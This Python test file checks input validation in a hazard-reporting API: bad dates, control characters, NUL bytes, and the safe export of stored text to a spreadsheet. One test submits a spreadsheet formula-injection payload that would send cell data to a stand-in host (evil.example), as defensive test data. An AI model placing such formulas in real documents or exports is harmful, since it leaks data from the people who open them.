"""Input the hazard API must refuse with a 422 naming the field (never a 500), and stored text the export survives."""

from __future__ import annotations

import io
from datetime import datetime, timedelta, timezone

from openpyxl import load_workbook
from sqlalchemy import text

from ecosafe_kit.eventstore import Signer
from hazard.domain.values import Grade, Source
from hazard.service_layer import commands as c
from hazard_helpers import in_days, ok, report_body, today


def E(district, n, county="140525"):
    return next(k for k in district if k.startswith(f"ent-{county}-{n}-"))


def _refused(response, field: str) -> dict:
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert field in [e["field"] for e in body["errors"]], body
    return body


def _fresh_public_window(hazard_engine) -> None:
    with hazard_engine.begin() as conn:  # the same test client address as the other public-report tests
        conn.execute(text("DELETE FROM hazard_report_throttle"))


def test_a_zeroing_period_ending_in_year_9999_or_starting_before_2000_is_422(client, users):
    far = client.get("/zeroing", headers=users.city(), params={"from": "2026-01-01", "to": "9999-12-31"})
    assert "今天" in _refused(far, "query.to")["errors"][0]["message"]
    _refused(client.get("/zeroing", headers=users.city(), params={"from": "0001-01-01", "to": today().isoformat()}),
             "query.from")
    _refused(client.get("/zeroing", headers=users.city(), params={"from": "1999-12-31", "to": "2000-01-31"}),
             "query.from")
    assert client.get("/zeroing", headers=users.city(), params={"from": "2000-01-01", "to": today().isoformat()}
                      ).status_code == 200


def test_found_at_in_year_1_or_before_2000_or_with_an_impossible_offset_is_422(client, users, district):
    enterprise = E(district, "010")
    for found_at in ("0001-01-01T00:00:00+14:00", "1999-12-31T23:59:59+08:00", "2026-01-05T08:00:00-16:13"):
        _refused(client.post("/hazards", headers=users.inspector(),
                             json=report_body(enterprise, found_at=found_at)), "found_at")
    ok(client.post("/hazards", headers=users.inspector(),
                   json=report_body(enterprise, found_at="2000-01-01T00:00:00+08:00")), 201)


def test_as_of_with_an_offset_beyond_14_hours_before_2000_or_in_the_future_is_422(client, users, district):
    enterprise = E(district, "010")
    hazard_id = ok(client.post("/hazards", headers=users.inspector(), json=report_body(enterprise)), 201)["hazard_id"]
    path = f"/hazards/{hazard_id}/as-of"
    _refused(client.get(path, headers=users.county(), params={"at": "2026-11-15T08:30:19-16:13"}), "query.at")
    _refused(client.get(path, headers=users.county(), params={"at": "0001-01-01T00:00:00+14:00"}), "query.at")
    future = (datetime.now(timezone.utc) + timedelta(days=1)).isoformat()
    _refused(client.get(path, headers=users.county(), params={"at": future}), "query.at")
    _refused(client.get(path, headers=users.county(), params={"at": "2026-11-15T08:30:19"}), "query.at")
    assert ok(client.get(path, headers=users.county(),
                         params={"at": datetime.now(timezone.utc).isoformat()}))["version"] == 1


def test_the_public_disclosure_of_an_area_code_that_does_not_exist_is_422_without_a_token(client):
    _refused(client.get("/public/hazards", params={"jurisdiction": "000000"}), "query.jurisdiction")
    assert client.get("/public/hazards", params={"jurisdiction": "140525"}).status_code == 200


def test_control_characters_in_text_fields_are_422_naming_the_field(client, users, district, hazard_engine):
    enterprise = E(district, "011")
    _refused(client.post("/hazards", headers=users.inspector(),
                         json=report_body(enterprise, description="防渗层破损\u001b[31m")), "body.description")
    _refused(client.post("/hazards", headers=users.inspector(), json=report_body(enterprise, site="库\u0007")),
             "body.site")
    _refused(client.post("/hazards", headers=users.inspector(), json=report_body(enterprise, grade_basis="a\u0000b")),
             "body.grade_basis")
    _fresh_public_window(hazard_engine)
    _refused(client.post("/public/reports", json={"enterprise_id": enterprise, "description": "偷排\u001b"}),
             "body.description")
    _refused(client.post("/public/reports", json={"enterprise_id": enterprise, "description": "偷排\u0000"}),
             "body.description")
    hazard_id = ok(client.post("/hazards", headers=users.inspector(), json=report_body(enterprise)), 201)["hazard_id"]
    # A one-line field refuses line breaks too; free text keeps them.
    _refused(client.post(f"/hazards/{hazard_id}/assignment", headers=users.county(), json={
        "responsible_unit": "丹源化工", "responsible_person": "张丽娜\n李四", "deadline": in_days(3)}),
        "body.responsible_person")
    ok(client.post(f"/hazards/{hazard_id}/assignment", headers=users.county(), json={
        "responsible_unit": "丹源化工", "responsible_person": "张丽娜", "deadline": in_days(3),
        "instructions": "一、停用暂存库\n二、七日内报方案"}))
    with hazard_engine.connect() as conn:
        count = conn.execute(text("SELECT count(*) FROM hazard_ledger WHERE description LIKE '%' || chr(27) || '%' "
                                  "AND enterprise_id = :e"), {"e": enterprise}).scalar_one()
    assert count == 0


def test_a_nul_byte_in_a_query_parameter_is_422(client, users):
    for path in ("/ledger?domain=%00", "/ledger.xlsx?campaign_id=a%00b", "/enterprises?q=%00"):
        response = client.get(path, headers=users.county())
        assert response.status_code == 422, (path, response.text)
        assert response.headers["content-type"].startswith("application/problem+json")


def test_the_export_survives_a_control_character_already_in_the_store(client, users, district):
    """Events are kept for ever: one recorded before the API refused control characters must not break the export."""
    enterprise = E(district, "012")
    service = client.app.state.hazard_service
    signer = Signer(subject="public:12369", name="群众举报", roles=(), jurisdiction="")
    with service.engine.begin() as conn:  # straight into the store and its projection, past the HTTP checks
        result = service.report_in(conn, signer, c.ReportHazard(
            enterprise_id=enterprise, source=Source.public_report, domain="other", grade=Grade.general,
            grade_basis="群众举报, 隐患等级待监管部门核定", description="夜间偷排\u001b[0m废液\u0007", site="雨水沟\u000b"),
            service.enterprise_or_422(conn, enterprise))
    for headers in (users.county(), users.city(), users.token("admin")):
        response = client.get("/ledger.xlsx", headers=headers, params={"enterprise_id": enterprise})
        assert response.status_code == 200, response.text
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    row = next(r for r in rows if r[0] == result.ledger_no)
    assert row[7] == "夜间偷排\\u001b[0m废液\\u0007"
    assert ok(client.get("/ledger", headers=users.county(), params={"enterprise_id": enterprise}))["total"] == 1


def test_text_starting_with_an_equals_sign_is_exported_as_text_not_a_formula(client, users, district, hazard_engine):
    enterprise = E(district, "013")
    _fresh_public_window(hazard_engine)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    receipt = ok(client.post("/public/reports", json={"enterprise_id": enterprise, "description": formula}), 201)
    response = client.get("/ledger.xlsx", headers=users.county(), params={"enterprise_id": enterprise})
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows() if r[0].value == receipt["ledger_no"])
    assert row[7].value == formula and row[7].data_type == "s"
